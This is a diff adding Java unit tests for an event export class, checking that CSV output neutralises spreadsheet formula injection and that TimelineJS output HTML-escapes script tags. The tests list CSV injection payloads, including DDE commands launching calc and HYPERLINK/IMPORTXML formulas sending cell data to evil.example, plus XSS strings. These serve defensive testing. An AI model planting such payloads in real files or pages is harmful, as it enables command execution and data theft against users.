@@ -75,4 +75,86 @@ class EventExportTest {
         assertThat(item.get("group").asString()).isEqualTo("Russie et CEI");
         assertThat(timeline.get("title").get("text").get("headline").asString()).isEqualTo("Annalist");
     }
+
+    /** OWASP's CSV injection payloads, with what semicolon locales, invisible prefixes and fullwidth forms add. */
+    private static final List<String> PAYLOADS = List.of(
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Error: click\")",
+            "=10+20+cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "=1+1",
+            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
+            "=IMPORTXML(CONCAT(\"http://evil.example/\", A1), \"//a\")",
+            "\t=1+1",
+            "\r=1+1",
+            ";=1+1+cmd|' /C calc'!A0",
+            "x;=1+1;@SUM(A1)",
+            " =1+1",
+            "\u00A0=1+1",
+            "\u202F\u00A0 +1",
+            "\u200B=1+1",
+            "\uFEFF@SUM(A1)",
+            "\uFF1D1+1",
+            "\uFF0B1",
+            "\uFF0D1",
+            "\uFF20SUM(A1)",
+            "\uFF1B=1",
+            "\"=1+1",
+            "'=1+1",
+            "\" \u200B'=cmd|' /C calc'!A0",
+            "\u2212 1+1");
+
+    @Test
+    void csvNeutralisesEveryKnownFormulaInjectionAndQuotesEveryCell() throws Exception {
+        List<StoredEvent> rows = PAYLOADS.stream().map(p -> event(p, p)).toList();
+        StringWriter out = new StringWriter();
+        export.csv(rows, out);
+        List<Map<String, String>> read = new CsvMapper().readerFor(Map.class).with(CsvSchema.emptySchema().withHeader())
+                .<Map<String, String>>readValues(out.toString()).readAll();
+        assertThat(read).hasSize(PAYLOADS.size());
+        for (int i = 0; i < PAYLOADS.size(); i++) {
+            String payload = PAYLOADS.get(i);
+            for (String column : List.of("title", "passages")) {
+                String cell = read.get(i).get(column);
+                // The text is kept whole, after an apostrophe wherever a spreadsheet could read a formula.
+                assertThat(cell).as(payload).isIn(payload, "'" + payload);
+                assertThat(firstVisible(cell)).as("%s: %s", column, payload).isNotIn('=', '+', '-', '@', ';', '\t', '\r',
+                        '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFF1B', '\u2212');
+            }
+        }
+        // Every cell quoted, so that a semicolon locale does not split "x;=1+1" into a formula cell.
+        String firstRow = out.toString().lines().skip(1).findFirst().orElseThrow();
+        assertThat(firstRow).startsWith("\"7\",\"2020-01-07T18:00\"");
+        assertThat(out.toString()).contains("\"x;=1+1;@SUM(A1)\"");
+        assertThat(EventExport.neutralise("plain")).isEqualTo("plain");
+        assertThat(EventExport.neutralise("« =1 »")).isEqualTo("« =1 »");
+    }
+
+    /** The first character a spreadsheet reads as the start of a formula: after an apostrophe (text), nothing. */
+    private static char firstVisible(String cell) {
+        if (cell.startsWith("'")) {
+            return 'T';
+        }
+        for (char c : cell.toCharArray()) {
+            if (!(Character.isWhitespace(c) && c != '\t' && c != '\r') && !Character.isSpaceChar(c) && "\u200B\uFEFF\"'".indexOf(c) < 0) {
+                return c;
+            }
+        }
+        return ' ';
+    }
+
+    @Test
+    void timelineJsEscapesWhatItShowsAsHtml() {
+        StringWriter out = new StringWriter();
+        export.timelineJs(List.of(event("<img src=x onerror=alert(1)> & co", "<script>alert('x')</script>")),
+                "<b>titre</b>", out);
+        JsonNode timeline = JsonMapper.builder().build().readTree(out.toString());
+        JsonNode text = timeline.get("events").get(0).get("text");
+        assertThat(text.get("headline").asString()).isEqualTo("&lt;img src=x onerror=alert(1)&gt; &amp; co");
+        assertThat(text.get("text").asString()).contains("&lt;script&gt;alert(&apos;x&apos;)&lt;/script&gt;")
+                .doesNotContain("<script");
+        assertThat(timeline.get("title").get("text").get("headline").asString()).isEqualTo("&lt;b&gt;titre&lt;/b&gt;");
+    }
 }
